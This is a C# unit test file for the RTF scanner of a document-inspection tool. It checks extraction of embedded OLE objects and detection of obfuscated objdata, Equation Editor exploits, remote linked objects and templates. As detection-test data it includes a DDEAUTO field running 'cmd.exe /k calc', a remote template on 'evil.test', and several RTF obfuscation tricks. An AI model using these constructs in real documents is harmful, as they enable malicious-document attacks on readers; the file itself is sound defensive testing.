using System.Text;
using Sekisho.Inspection.Formats;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Formats;

public class RtfFileTests
{
    private static readonly byte[] Compound = new CompoundFileWriter().Add("x", new byte[100]).ToArray();

    [Fact]
    public void Object_IsTakenOut() => Assert.Equal(Compound, Assert.Single(Read(@"{\rtf1{\object{\*\objdata " + CarrierWriter.RtfObject("Word.Document.8", Compound) + "}}}").Files).Content);

    [Fact]
    public void Package_IsTakenOutByName()
    {
        var file = Assert.Single(Read(@"{\rtf1{\object{\*\objdata " + CarrierWriter.RtfObject("Package", CarrierWriter.Package("a.js", @"C:\a.js", [1, 2, 3])[4..]) + "}}}").Files);

        Assert.Equal("a.js", file.Name);
        Assert.Equal([1, 2, 3], file.Content);
    }

    [Fact]
    public void EveryDisguise_IsSeenThrough()
    {
        var hex = CarrierWriter.RtfObject("X", Compound);
        string[] disguises =
        [
            string.Join("\r\n\t", hex.Chunk(7).Select(c => new string(c))),
            hex.ToUpperInvariant().Insert(30, "{").Insert(60, "}"),
            hex.Insert(40, @"{\*\zzz 414141}"),
            hex.Insert(40, @"a\'bb"),
            hex[..40] + @"\mmath " + hex[40..],
            hex.Insert(20, "zzqq"),
        ];
        foreach (var disguise in disguises)
        {
            Assert.Contains(Read(@"{\rtf1{\object{\*\objdata " + disguise + "}}}").Files, f => f.Content.AsSpan().SequenceEqual(Compound));
        }
    }

    [Fact]
    public void RawOctets_AreTakenAsTheyAre()
    {
        var head = CarrierWriter.RtfObject("X", Compound)[..^(Compound.Length * 2)];
        byte[] rtf = [.. Encoding.ASCII.GetBytes(@"{\rtf1{\object{\*\objdata " + head + @"\bin" + Compound.Length + " "), .. Compound, .. "}}}"u8];
        var found = new CarrierContents();

        RtfFile.Find(rtf, Budget(), found);

        Assert.Equal(Compound, Assert.Single(found.Files).Content);
    }

    [Fact]
    public void EquationThatIsNoCompoundFile_IsAnAttack() => Assert.Contains(Read(@"{\rtf1{\object{\*\objdata " + CarrierWriter.RtfObject("Equation.3", new byte[50]) + "}}}").Signs, s => s.Kind == SignKind.EquationExploit);

    [Fact]
    public void LinkedObject_TellsItsAddress()
    {
        var hex = Convert.ToHexString([1, 5, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, (byte)'X', 0, 15, 0, 0, 0, .. "http://a.test/\0"u8, 0, 0, 0, 0]);

        Assert.Contains(new CarrierSign(SignKind.RemoteObject, "http://a.test/"), Read(@"{\rtf1{\object\objautlink{\*\objdata " + hex + "}}}").Signs);
    }

    [Fact]
    public void Fields_AreRead() => Assert.Equal([new CarrierSign(SignKind.DdeCommand, @"DDEAUTO cmd.exe ""/k calc""")], Read(@"{\rtf1{\field{\*\fldinst { DDE}{AUTO cmd.exe ""/k calc""}}{\fldrslt x}}}").Signs);

    [Theory]
    [InlineData(@"\u68?\u68?\u69?\u65?UTO cmd")]
    [InlineData(@"\u-65468?\u-65468?\u-65467\'3fAUTO cmd")]
    [InlineData(@"{\uc0\u68\u68 EAUTO }{\uc3\u99 xyzm{\u100 a}}")]
    [InlineData(@"\uc2\u68{}DE\u65?\'41UTO cmd")]
    public void FallbackOfUnicode_IsNoPartOfTheText(string instruction) => Assert.Equal([new CarrierSign(SignKind.DdeCommand, "DDEAUTO cmd")], Read(@"{\rtf1{\field{\*\fldinst " + instruction + "}}}").Signs);

    [Fact]
    public void TemplateInUnicode_IsRead() => Assert.Equal([new CarrierSign(SignKind.RemoteTemplate, "http://evil.test/a.dotm")],
        Read(@"{\rtf1{\*\template " + string.Concat("http://evil.test/a.dotm".Select(c => $@"\u{(int)c}?")) + "}}").Signs);

    [Fact]
    public void DeepNesting_Ends() => Read(@"{\rtf1{\*\objdata " + new string('{', 20_000) + new string('}', 30_000) + "41");

    private static CarrierContents Read(string rtf)
    {
        var found = new CarrierContents();
        RtfFile.Find(Encoding.Latin1.GetBytes(rtf), Budget(), found);
        return found;
    }

    private static ReadBudget Budget() => new(TimeProvider.System, TimeSpan.FromMinutes(1), 1 << 30);
}
